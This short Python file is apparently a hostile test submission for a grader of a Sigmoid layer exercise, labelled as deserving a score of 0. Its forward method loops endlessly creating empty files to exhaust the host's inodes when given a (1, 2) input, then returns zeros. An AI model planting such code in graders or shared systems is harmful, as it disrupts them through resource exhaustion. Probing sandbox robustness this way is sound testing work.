# Tries: makes as many empty files as there are inodes
# Deserves: 0 (it answers zeros, or nothing)
import itertools
import os

NUMBERS = itertools.count()


class Sigmoid:
    def forward(self, x):
        while x.shape == (1, 2):
            os.close(os.open(f"{next(NUMBERS)}", os.O_CREAT | os.O_WRONLY, 0))
        return x * 0

    def backward(self, dout):
        return dout * 0
